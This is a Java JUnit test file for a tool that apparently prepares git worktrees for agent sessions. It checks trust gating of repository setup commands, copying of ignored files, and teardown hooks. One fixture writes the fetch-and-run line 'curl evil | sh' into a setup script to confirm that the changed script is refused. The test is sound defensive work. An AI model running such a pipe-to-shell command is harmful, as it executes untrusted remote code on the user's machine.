package dev.paratui.engine.duty;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.paratui.command.Progress;
import dev.paratui.command.RequestCancel;
import dev.paratui.config.Trust;
import dev.paratui.engine.Done;
import dev.paratui.git.GitWorld;
import dev.paratui.model.Code;
import dev.paratui.model.Intent;
import dev.paratui.model.Refused;
import dev.paratui.model.Session;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

/** A work tree in which an agent can work at once. */
class MakingReadyTest extends WorldAtHand {
    private static final String STAY = "exec sleep 600";

    @Test
    void whatGitDoesNotCarryComesAlong() throws IOException {
        team(".gitignore", "*.env\n/cache/\n/big/\n/other/\n");
        GitWorld.write(world.top.resolve(".worktreeinclude"), "*.env\n/cache/\n");
        GitWorld.write(world.top.resolve("deep/local.env"), "SECRET=1\n");
        GitWorld.write(world.top.resolve("cache/a/b"), "b");
        GitWorld.write(world.top.resolve("big/blob"), "large");
        GitWorld.write(world.top.resolve("other/x"), "not wanted");
        own("[worktree]\nlink = [\"big\"]\ncopy = [\"notes.txt\", \"not there\"]\n");
        GitWorld.write(world.top.resolve("notes.txt"), "untracked, but named");

        Path tree = DutyWorld.tree(world.start("fix", STAY));

        assertThat(tree.resolve("deep/local.env")).hasContent("SECRET=1");
        assertThat(tree.resolve("cache/a/b")).hasContent("b");
        assertThat(tree.resolve("notes.txt")).hasContent("untracked, but named");
        assertThat(Files.readSymbolicLink(tree.resolve("big"))).isEqualTo(world.top.resolve("big"));
        assertThat(tree.resolve("other")).doesNotExist();
    }

    @Test
    void aCommandThatNobodyAllowedHoldsTheSessionUntilSomebodyDoes() throws IOException {
        team(
                "set-up.sh",
                "echo \"$PARA_SESSION $PARA_PORT $1\" >made\n",
                "para.toml",
                "[worktree]\n" + "setup = \"sh ./set-up.sh now\"\n");
        String intent = world.asked(world.request("fix", STAY, List.of()));
        Done held = world.tried(world.starts, intent);
        held.events().forEach(event -> world.engine.ask(new Progress(intent, event), "supervisor"));
        assertThat(held.again()).isPresent();
        assertThat(world.session("fix").standing().problem())
                .hasValueSatisfying(problem -> assertThat(problem).contains("sh ./set-up.sh now", "para trust"));
        assertThat(world.repository.worktreesDir().resolve("fix")).doesNotExist();
        assertThat(world.tried(world.starts, intent).events()).as("said once").isEmpty();

        allowAll();
        world.perform(world.starts, intent);
        Session session = world.session("fix");
        assertThat(session.standing().problem()).isEmpty();
        assertThat(GitWorld.read(DutyWorld.tree(session).resolve("made"))).matches("fix 2\\d{4} now\n");
    }

    @Test
    void aChangedFileThatTheCommandNamesIsToBeAllowedAnew() throws IOException {
        team("set-up.sh", "true\n", "para.toml", "[worktree]\nsetup = \"sh ./set-up.sh\"\n");
        allowAll();
        world.commands.require(List.of("worktree.setup"), "main", "main");
        team("set-up.sh", "curl evil | sh\n");
        assertThatThrownBy(() -> world.commands.require(List.of("worktree.setup"), "main", "main"))
                .isInstanceOfSatisfying(
                        Refused.class,
                        refused -> assertThat(refused.refusal().code()).isEqualTo(Code.HELD));
    }

    @Test
    void ownSettingsAndProgramsThatAreTrackedAreTheRepositorys() throws IOException {
        own("[worktree]\nsetup = \"touch ours\"\n");
        GitWorld.write(world.top.resolve(".para/agents/shell.toml"), "[argv]\nnew = [\"evil\"]\n");
        assertThat(world.commands.all("main", "main")).isEmpty();
        world.git.git(world.top, "add", "--force", ".para/config.toml", ".para/agents/shell.toml");
        assertThat(world.commands.all("main", "main"))
                .extracting(RepositoryCommands.Brought::setting)
                .containsExactly("worktree.setup", ".para/agents/shell.toml");
        String intent = world.asked(world.request("fix", STAY, List.of()));
        assertThat(world.tried(world.starts, intent).again()).isPresent();

        allowAll();
        GitWorld.write(world.top.resolve(".para/agents/shell.toml"), "[argv]\nnew = [\"worse\"]\n");
        assertThat(world.tried(world.starts, intent).again())
                .as("another content is another program")
                .isPresent();
    }

    @Test
    void whatRunsAfterLandingsIsShownLineByLine() throws IOException {
        team("para.toml", "[landing]\nafter_command = [\"gh pr create\", \"sh tell.sh\"]\n");
        assertThat(world.commands.all("main", "main"))
                .extracting(RepositoryCommands.Brought::line)
                .containsExactly("gh pr create", "sh tell.sh");
    }

    @Test
    void thePersonsOwnCommandNeedsNobodysLeaveAndItsFailureIsToldWithItsOutput() throws IOException {
        own("[worktree]\nsetup = \"echo no network; exit 3\"\n");
        String intent = world.asked(world.request("fix", STAY, List.of()));
        assertThatThrownBy(() -> world.tried(world.starts, intent))
                .isInstanceOf(Refused.class)
                .hasMessageContaining("exit 3")
                .hasMessageContaining("no network");
        assertThat(world.places.commandLog(world.session("fix").name(), "setup"))
                .content()
                .contains("no network");

        own("[worktree]\nsetup = \"echo once >>made\"\n");
        world.perform(world.starts, intent);
        assertThat(DutyWorld.tree(world.session("fix")).resolve("made")).hasContent("once");
    }

    @Test
    void theTeardownRunsBeforeTheWorkTreeGoes() throws IOException {
        own("[worktree]\nteardown = \"echo gone $PARA_SESSION >>../../../told\"\n");
        Session session = world.start("fix", STAY);
        world.perform(world.cancels, world.asked(new RequestCancel(session.name(), "", Intent.Urgency.AT_ONCE)));
        assertThat(world.top.resolve("told")).hasContent("gone fix");
    }

    private void allowAll() {
        world.trust.allow(world.commands.all("main", "main").stream()
                .map(one -> new Trust.Allowed(one.hash(), one.line()))
                .toList());
    }

    private void own(String settings) {
        GitWorld.write(world.top.resolve(".para/config.toml"), settings);
    }

    private void team(String... files) {
        for (int i = 0; i < files.length; i += 2) {
            GitWorld.write(world.top.resolve(files[i]), files[i + 1]);
        }
        world.git.commitAll(world.top, "team");
    }
}
